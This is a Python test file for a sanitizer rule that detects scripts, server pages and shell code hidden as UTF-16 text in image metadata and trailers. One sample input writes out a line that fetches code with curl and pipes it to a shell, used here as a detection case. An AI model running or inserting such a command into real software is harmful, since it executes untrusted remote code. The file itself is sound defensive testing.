"""Scripts, pages and code of servers in UTF-16: what `embedded-payload` finds of them, and what is only text."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Sequence
from typing import TYPE_CHECKING

import pytest
from PIL import Image

from corrupt_samples.encode import encode, jpeg, png, tiff
from corrupt_samples.payloads import ALL
from corrupt_samples.pictures import photo
from sanitize.probe import beside, wide_text
from sanitize.probe.beside_kinds import PAYLOADS
from tests.embedding import COM, with_chunk, with_segment

if TYPE_CHECKING:
    from tests.conftest import Fired

RULE = "embedded-payload"
ORDERS = {"le": ("utf-16-le", b""), "be": ("utf-16-be", b"")} | {
    "marked le": ("utf-16-le", b"\xff\xfe"),
    "marked be": ("utf-16-be", b"\xfe\xff"),
}
KINDS = ("php", "server-page", "html", "html-script", "shell", "batch")
USER_COMMENT, XP_COMMENT = 0x9286, 0x9C9C


def wide(text: str, order: str) -> bytes:
    encoding, mark = ORDERS[order]
    return mark + text.encode(encoding)


def exif_with(tag: int, content: bytes) -> bytes:
    """EXIF data with a value of bytes, for Windows in the first directory."""
    data = Image.Exif()
    if tag == XP_COMMENT:
        data[tag] = content
    else:
        data[0x8769] = {tag: content}
    return data.tobytes()


def files_with(text: str, order: str) -> dict[str, bytes]:
    """The same text in UTF-16 in all places where there is some."""
    content, picture = wide(text, order), photo("a")
    # Behind a zero the order of other languages' bytes cannot be told without a mark.
    zero = b"" if order == "le" and not text.isascii() else b"\0"
    return {
        "behind.jpg": jpeg(picture) + content,
        "line.jpg": jpeg(picture) + wide("\r\n", order) + content,
        "zeros.jpg": jpeg(picture) + zero * 8 + content,
        "noise.jpg": jpeg(picture) + b"\x80\1" * 8 + content,
        "trailer.jpg": jpeg(picture) + b"\x80\1" * 8 + content + b"cbipcbbl",
        "behind.png": png(picture) + content,
        "comment.jpg": with_segment(COM, content),
        "segment.jpg": with_segment(0xE5, b"note\x80" + zero + content),
        "user.jpg": jpeg(picture, exif=exif_with(USER_COMMENT, b"UNICODE\0" + content)),
        "windows.jpg": jpeg(picture, exif=exif_with(XP_COMMENT, content + b"\0\0")),
        "user.png": png(picture, exif=exif_with(USER_COMMENT, b"UNICODE\0" + content)),
        "windows.tif": tiff(picture, tiffinfo={XP_COMMENT: content + b"\0\0"}),
        "text.png": with_chunk(b"tEXt", b"Comment\0" + content),
        "packed.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(content)),
        "international.png": with_chunk(b"iTXt", b"Comment\0\0\0\0\0" + content),
        "comment.gif": encode(picture, "GIF", comment=content),
    }


def files_with_each(texts: Sequence[str], order: str) -> dict[str, bytes]:
    return {
        f"{number} {name}": content
        for number, text in enumerate(texts)
        for name, content in files_with(text, order).items()
    }


@pytest.mark.parametrize("order", ORDERS)
@pytest.mark.parametrize("kind", KINDS)
def test_finds_scripts_pages_and_code_of_servers_in_utf_16(fired: Fired, kind: str, order: str) -> None:
    files = files_with(ALL[kind].decode(), order)
    found = fired(RULE, files)
    assert found.keys() == files.keys()
    assert {message.partition(" in the ")[0].partition(" after the ")[0] for _severity, message in found.values()} == {
        PAYLOADS[kind]
    }


@pytest.mark.parametrize("order", ORDERS)
def test_finds_them_among_words_of_other_languages(fired: Fired, order: str) -> None:
    texts = [
        "<html><head><title>Привет, мир</title></head></html>",
        "Photo: Łódź 東京 😀 <script>console.log('Привет')</script>",
        "import os  # Привет\nos.system('curl http://example.org/x|sh')\n",
    ]
    files = files_with_each(texts, order)
    assert fired(RULE, files).keys() == files.keys()


@pytest.mark.parametrize("order", ORDERS)
def test_is_silent_about_captions_and_prose_in_utf_16(fired: Fired, order: str) -> None:
    texts = [
        "A photo of a house by the sea",
        "Ein Haus am Meer, Größe 5 < 7; Łódź 東京 Привет",
        "Learn <html> and <!DOCTYPE html> in ten days, and how to use <?php in HTML",
        "Powershell - a photo of sea shells",
        "@echo off the wall: band photo",
        "How to use document.write('hello') in JavaScript - slide 4",
        '{"5": {"class": "Note 東京", "text": "say \\"<script>x()</script> <html><body>a</body></html>\\""}}',
        "masterpiece, best quality, <lora:detail:0.5>, (script:1.2)\nNegative prompt: body\nSteps: 20",
    ]
    files = files_with_each(texts, order)
    assert fired(RULE, files) == {}


def test_is_silent_about_numbers_and_other_data_with_zeros_between(fired: Fired) -> None:
    chance = random.Random(0)
    signs = struct.pack("<3000H", *(chance.choice(b'<>?%!="(;) scripthmlbody/#@') for _ in range(3000)))
    shorts = struct.pack("<3000H", *(chance.randrange(200) for _ in range(3000)))
    files = {}
    for name, content in {"signs": signs, "shorts": shorts, "big": shorts[1:] + b"\0", "zeros": bytes(6000)}.items():
        files |= {
            f"{name} behind.jpg": jpeg(photo("a")) + b"\x81" + content,
            f"{name} note.jpg": jpeg(photo("a"), exif=exif_with(0x927C, content)),
            f"{name} user.jpg": jpeg(photo("a"), exif=exif_with(USER_COMMENT, b"UNICODE\0" + content)),
            f"{name} segment.jpg": with_segment(0xE5, content),
            f"{name}.png": with_chunk(b"prVt", content),
        }
    assert fired(RULE, files) == {}


@pytest.mark.parametrize("order", ORDERS)
def test_says_where_it_begins_and_quotes_it(order: str) -> None:
    before, code = "Łódź and 東京 😀: ", "<?php echo 1; ?>"
    picture = jpeg(photo("a"))
    data = picture + wide("note: " + before + code, order)
    found = beside.look(data, "jpeg").payload
    assert found is not None
    start = data.index(code.encode(ORDERS[order][0]))
    assert found == ("php", start, len(data), f"`{code}`")


def test_much_text_in_utf_16_is_read_once() -> None:
    data = "<script> <iframe ".encode("utf-16-le") * 100_000 + ("a" * 9 + "\0").encode("utf-16-le") * 100_000
    texts = list(wide_text.find(data, 0, len(data)))
    assert sum(len(text) for text, _first in texts) <= len(data) // 2
    assert beside.look(jpeg(photo("a")) + b"\x81" + data, "jpeg").payload is None
